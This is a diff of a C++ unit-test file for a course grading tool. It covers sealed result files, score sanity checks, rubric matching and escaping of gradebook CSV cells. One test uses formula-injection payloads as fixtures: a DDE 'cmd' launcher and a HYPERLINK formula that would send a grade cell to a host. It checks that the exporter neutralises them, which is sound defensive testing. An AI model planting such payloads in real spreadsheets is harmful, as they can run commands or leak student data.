@@ -2,10 +2,19 @@
 
 #include <gtest/gtest.h>
 
+#include <cmath>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
 #include <string>
+
+#include "kit/errors.h"
+#include "kit/result_seal.h"
 
 namespace kit {
 namespace {
+
+namespace fs = std::filesystem;
 
 TestResult test(const std::string& group, const std::string& name, TestStatus status, double score, double max,
                 TestCategory category = TestCategory::correctness) {
@@ -35,14 +44,6 @@ ClassResult student(const std::string& key, const std::string& backend, std::vec
     r.result.max_score += t.max_score;
   }
   return r;
-}
-
-TEST(Gradebook, CsvFieldsWithCommasQuotesAndLineBreaksAreQuoted) {
-  EXPECT_EQ(csv_field("alice"), "alice");
-  EXPECT_EQ(csv_field("Doe, Jane"), "\"Doe, Jane\"");
-  EXPECT_EQ(csv_field("Jane \"JD\" Doe"), "\"Jane \"\"JD\"\" Doe\"");
-  EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
-  EXPECT_EQ(csv_field(""), "");
 }
 
 TEST(Gradebook, KitCsvHasAColumnPerScoredGroupAndARowPerPerson) {
@@ -119,25 +120,188 @@ TEST(Gradebook, MergeBatchesKeepsStudentsOfEitherBatch) {
   EXPECT_EQ(merged[2].key, "carol");
 }
 
+const std::string kSecret = "0123456789abcdef0123456789abcdef";
+
 TEST(Gradebook, ClassResultsRoundTripThroughTheirJson) {
   ClassResult r = student("alice", "cpu", {test("small sizes", "Width 1", TestStatus::passed, 10, 10)});
   r.people = {{"Alice \xff Liddell", "42", "alice@example.edu"}};  // a name that is not UTF-8 is no error
-  r.submission_sha256 = {{"matmul_naive.cu", "abc123"}};
+  r.submission_sha256 = {{"matmul_naive.cu", "abc123"}, {"answers.yaml", "absent"}};
+  r.rubric_sha256 = "feed";
   r.seed = "7";
-  const ClassResult back = class_result_from_json(nlohmann::json::parse(render_class_result(r)), "ignored");
+  const nlohmann::json document = nlohmann::json::parse(render_class_result(r, kSecret));
+  EXPECT_EQ(check_seal(document, kSecret), SealCheck::valid);
+  const ClassResult back = class_result_from_json(document, "ignored");
   EXPECT_EQ(back.key, "alice");
   EXPECT_EQ(back.status, ClassStatus::graded);
   EXPECT_EQ(back.people.at(0).sid, "42");
   EXPECT_EQ(back.submission_sha256, r.submission_sha256);
+  EXPECT_EQ(back.rubric_sha256, "feed");
   EXPECT_EQ(back.seed, "7");
   EXPECT_EQ(back.backend, "cpu");
   EXPECT_DOUBLE_EQ(back.result.score, 10);
   // A plain `grader grade --format json` result is the student named by the file.
-  nlohmann::json plain = nlohmann::json::parse(render_class_result(r));
+  nlohmann::json plain = document;
   plain.erase("batch");
   EXPECT_EQ(class_result_from_json(plain, "bob").people.at(0).name, "bob");
   plain["batch"] = {{"status", "finished"}};
   EXPECT_THROW(class_result_from_json(plain, "bob"), std::runtime_error);
+}
+
+TEST(Gradebook, ScoresBeyondTheirMaximaAreNamed) {
+  ClassResult r = student("alice", "cpu", {test("small sizes", "Width 1", TestStatus::passed, 10, 10),
+                                           test("small sizes", "Width 2", TestStatus::failed, 0, 10)});
+  EXPECT_EQ(score_problem(r.result), "");
+  GradeResult g = r.result;
+  g.tests[1].score = 11;
+  g.score = 21;
+  EXPECT_NE(score_problem(g).find("test \"small sizes: Width 2\" scores 11 of at most 10"), std::string::npos)
+      << score_problem(g);
+  g = r.result;
+  g.tests[1].score = -1;
+  g.score = 9;
+  EXPECT_NE(score_problem(g).find("scores -1"), std::string::npos) << score_problem(g);
+  g = r.result;
+  g.score = 25000000;
+  EXPECT_NE(score_problem(g).find("it scores 25000000 of at most 20"), std::string::npos) << score_problem(g);
+  g = r.result;
+  g.score = 15;
+  EXPECT_NE(score_problem(g).find("not the sum of its tests' scores, 10"), std::string::npos) << score_problem(g);
+  // The grading rounds its total to hundredths: 3 x 1/3 of a point is 1, and 1/3 alone 0.33.
+  g.tests = {test("g", "a", TestStatus::passed, 1.0 / 3, 1), test("g", "b", TestStatus::failed, 0, 1)};
+  g.max_score = 2;
+  g.score = 0.33;
+  EXPECT_EQ(score_problem(g), "");
+  g.score = 0.34;
+  EXPECT_NE(score_problem(g), "");
+  g = r.result;
+  g.tests[0].score = std::nan("");
+  EXPECT_NE(score_problem(g).find("not a number"), std::string::npos) << score_problem(g);
+  // An error's single test carries no points while the result keeps the rubric's maximum: that is fine.
+  ClassResult error = student("bob", "cpu", {test("grading error", "grading error", TestStatus::error, 0, 0)});
+  error.result.max_score = 100;
+  EXPECT_EQ(score_problem(error.result), "");
+}
+
+class GradebookFilesTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    std::string pattern = (fs::temp_directory_path() / "kit-gradebook-test-XXXXXX").string();
+    ASSERT_NE(::mkdtemp(pattern.data()), nullptr);
+    root_ = pattern;
+    fs::create_directories(root_ / "results");
+  }
+  void TearDown() override {
+    std::error_code ignored;
+    fs::remove_all(root_, ignored);
+  }
+  ClassResult sample(const std::string& key, double score = 10) const {
+    ClassResult r = student(key, "cpu", {test("small sizes", "Width 1", TestStatus::passed, score, 10)});
+    r.rubric_sha256 = "rubric-1";
+    return r;
+  }
+  void save(const std::string& file, const std::string& text) const {
+    std::ofstream(root_ / "results" / file, std::ios::binary | std::ios::trunc) << text;
+  }
+  std::string refusal() const {
+    try {
+      read_class_results(root_.string(), kSecret);
+    } catch (const UserError& e) {
+      return e.what();
+    }
+    return "";
+  }
+  fs::path root_;
+};
+
+TEST_F(GradebookFilesTest, SealedResultsAreRead) {
+  save("alice.json", render_class_result(sample("alice"), kSecret));
+  save("bob.json", render_class_result(sample("bob", 5), kSecret));
+  const std::vector<ClassResult> results = read_class_results(root_.string(), kSecret);
+  ASSERT_EQ(results.size(), 2u);
+  EXPECT_EQ(results[1].key, "bob");
+  EXPECT_DOUBLE_EQ(results[1].result.score, 5);
+  EXPECT_EQ(results[1].file, (root_ / "results/bob.json").string());
+}
+
+TEST_F(GradebookFilesTest, AnEditedResultIsRefusedWithItsFileNamed) {
+  std::string text = render_class_result(sample("alice", 5), kSecret);
+  text.replace(text.find("\"score\": 5.0"), 12, "\"score\": 9.0");
+  save("alice.json", text);
+  EXPECT_NE(refusal().find("results/alice.json' is refused: it does not carry the seal"), std::string::npos)
+      << refusal();
+}
+
+TEST_F(GradebookFilesTest, AResultWithoutASealOrWithAnotherKeysSealIsRefused) {
+  nlohmann::json plain = nlohmann::json::parse(render_class_result(sample("alice"), kSecret));
+  plain["batch"].erase("hmac_sha256");
+  save("alice.json", plain.dump());
+  EXPECT_NE(refusal().find("carries no seal"), std::string::npos) << refusal();
+  save("alice.json", render_class_result(sample("alice"), "another key, of another batch, 32+"));
+  EXPECT_NE(refusal().find("does not carry the seal"), std::string::npos) << refusal();
+  save("alice.json", "{\"score\": 25000000");
+  EXPECT_NE(refusal().find("is not JSON"), std::string::npos) << refusal();
+}
+
+TEST_F(GradebookFilesTest, ASealedResultWithImpossibleScoresOrUnderAnotherNameIsRefused) {
+  ClassResult r = sample("alice");
+  r.result.score = 25000000;
+  save("alice.json", render_class_result(r, kSecret));
+  EXPECT_NE(refusal().find("it has scores no grading gives: it scores 25000000 of at most 10"), std::string::npos)
+      << refusal();
+  save("alice.json", render_class_result(sample("bob"), kSecret));
+  EXPECT_NE(refusal().find("holds the result of bob, not of alice"), std::string::npos) << refusal();
+}
+
+TEST(Gradebook, ResultsGradedAgainstAnotherRubricAreRefused) {
+  ClassResult a = student("alice", "cpu", {}), b = student("bob", "cpu", {});
+  a.rubric_sha256 = b.rubric_sha256 = "one";
+  a.file = "a/alice.json";
+  b.file = "b/bob.json";
+  EXPECT_NO_THROW(check_one_rubric({{a}, {b}}, "one"));
+  EXPECT_NO_THROW(check_one_rubric({{a}, {b}}, ""));
+  b.rubric_sha256 = "two";
+  try {
+    check_one_rubric({{a}, {b}}, "");
+    ADD_FAILURE() << "two rubrics were taken";
+  } catch (const UserError& e) {
+    EXPECT_NE(std::string(e.what()).find("'b/bob.json' were graded against different rubrics of matmul-naive"), std::string::npos)
+        << e.what();
+  }
+  try {
+    check_one_rubric({{a}}, "three");
+    ADD_FAILURE() << "a rubric other than the assignment's was taken";
+  } catch (const UserError& e) {
+    EXPECT_NE(std::string(e.what()).find("'a/alice.json' was graded against another rubric"), std::string::npos)
+        << e.what();
+  }
+  b.rubric_sha256 = "one";
+  b.result.assignment = "matmul-tiled";
+  try {
+    check_one_rubric({{a, b}}, "");
+    ADD_FAILURE() << "two assignments were taken";
+  } catch (const UserError& e) {
+    EXPECT_NE(std::string(e.what()).find("different assignments (matmul-naive, matmul-tiled)"), std::string::npos)
+        << e.what();
+  }
+}
+
+TEST(Gradebook, EveryTextCellIsNeutralisedAndNumbersStayNumbers) {
+  ClassResult r = student("x", "cpu", {test("=cmd|' /C calc'!A0", "Width 1", TestStatus::passed, 7.5, 10)});
+  r.people = {{"=HYPERLINK(\"http://127.0.0.1:9/?g=\"&D2,\"grades\")", "+1", "@evil"}};
+  r.result.device.name = "-device";
+  const std::string kit = render_gradebook({r}, GradebookFormat::kit);
+  EXPECT_NE(kit.find("\"'=cmd|' /C calc'!A0\""), std::string::npos) << kit;
+  EXPECT_NE(kit.find("\"'=HYPERLINK(\"\"http://127.0.0.1:9/?g=\"\"&D2,\"\"grades\"\")\",\"'+1\",\"'@evil\",7.5,10,7.5,"),
+            std::string::npos)
+      << kit;
+  EXPECT_NE(kit.find(",\"'-device\",10.0\r\n"), std::string::npos) << kit;
+  for (GradebookFormat format : {GradebookFormat::gradescope, GradebookFormat::canvas}) {
+    const std::string csv = render_gradebook({r}, format);
+    EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
+    EXPECT_EQ(csv.find(",=HYPERLINK("), std::string::npos) << csv;
+    EXPECT_EQ(csv.find("\n=HYPERLINK("), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",7.5\r\n"), std::string::npos) << csv;
+  }
 }
 
 TEST(Gradebook, SummaryShowsTheFirstFailingTest) {
